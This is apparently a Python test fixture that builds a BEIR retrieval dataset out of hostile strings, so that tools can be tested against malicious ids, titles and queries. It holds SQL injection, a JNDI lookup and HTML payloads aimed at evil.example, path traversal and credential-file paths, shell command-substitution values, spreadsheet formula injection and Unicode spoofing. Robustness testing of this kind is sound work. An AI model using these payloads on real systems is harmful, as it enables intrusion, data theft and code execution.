"""Strings that are meant to do harm, each in its own document and query of one data set."""

from __future__ import annotations

import json
from pathlib import Path

SQL = [
    "'; DROP TABLE corpus; --",
    '"; DROP VIEW judged; --',
    "' OR '1'='1",
    "q0' UNION SELECT * FROM read_text('/etc/passwd') --",
    "$asked",
    "?); ATTACH '/tmp/x.db'; --",
    "'); COPY corpus TO '/tmp/stolen.csv'; --",
    "x'; INSTALL httpfs; LOAD httpfs; --",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n{0.__class__}",
]
PATHS = [
    "../../../../tmp/escaped",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\boot.ini",
    "~/.ssh/authorized_keys",
    "file:///etc/passwd",
    "con",
    ".",
    "..",
    "a/../../b",
    "name\x00.txt",
    "-rf",
    "$(touch owned)",
    "`touch owned`",
    "| touch owned",
    "*?[a-z]",
]
HTML = [
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "</style><script>document.title='owned'</script>",
    "</title><svg onload=document.title='owned'>",
    "<img src=x onerror=\"document.title='owned'\">",
    "\"><img src=x onerror=document.title='owned'>",
    "' onmouseover='document.title=1' x='",
    '" autofocus onfocus="document.title=\'owned\'" x="',
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<!-- <script>",
    "--><script>document.title='owned'</script>",
    "<![CDATA[<script>document.title='owned'</script>]]>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "&#60;script&#62;document.title=1&#60;/script&#62;",
    "<scr<script>ipt>document.title='owned'</scr</script>ipt>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<template><script>document.title='owned'</script></template>",
]
TERMINAL = [
    "\x1b[2J\x1b[H clear",
    "\x1b]0;owned\x07 title",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x9b31m eight bit",
    "back\x08\x08\x08\x08 space",
    "over\rwritten",
    "two\nlines",
    "a\x7fb delete",
    "[red]markup[/red][link=http://evil.example]x[/link]",
]
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1 after a tab",
    "\r=1+1 after a return",
    '=HYPERLINK("http://evil.example","x")',
]
UNICODE = [
    "\u202egnp.exe right to left",
    "аdmin with a Cyrillic a",
    "ﬁ ligature ＡＢＣ full width",
    "zero\u200bwidth\u2060joiner",
    "Z" + "\u0351" * 400 + " stacked",
    "\ufdfa" * 50 + " grows eighteen times",
    "\U000e0041\U000e0042 tags",
    "\uffff\ufffe not characters",
    "line\u2028separator\u2029s",
    "İSTANBUL ß ſ ẞ fold",
    "\x00 NUL first",
    "long " * 20_000,
]

STRINGS = [*SQL, *PATHS, *HTML, *TERMINAL, *FORMULAS, *UNICODE]


def write(folder: Path) -> Path:
    """A BEIR folder in which every string is an id, a title and a text of a document, and an id and a text of a query."""
    folder.joinpath("qrels").mkdir(parents=True)
    ids = [text[:300] for text in STRINGS]
    corpus = [{"_id": i, "title": text[:500], "text": text} for i, text in zip(ids, STRINGS, strict=True)]
    queries = [{"_id": i, "text": f"{text} ?"} for i, text in zip(ids, STRINGS, strict=True)]
    (folder / "corpus.jsonl").write_text("".join(json.dumps(row) + "\n" for row in corpus))
    (folder / "queries.jsonl").write_text("".join(json.dumps(row) + "\n" for row in queries))
    for split, third in (("train", 0), ("dev", 1), ("test", 2)):
        rows = [(q, ids[(n + 3) % len(ids)]) for n, q in enumerate(ids) if n % 3 == third]
        rows = [(q, d) for q, d in rows if not any("\n" in i or "\r" in i for i in (q, d))]
        text = "".join("\t".join(quoted(i) for i in row) + "\t1\n" for row in rows)
        (folder / "qrels" / f"{split}.tsv").write_bytes(f"query-id\tcorpus-id\tscore\n{text}".encode())
    return folder


def quoted(field: str) -> str:
    return '"' + field.replace('"', '""') + '"'
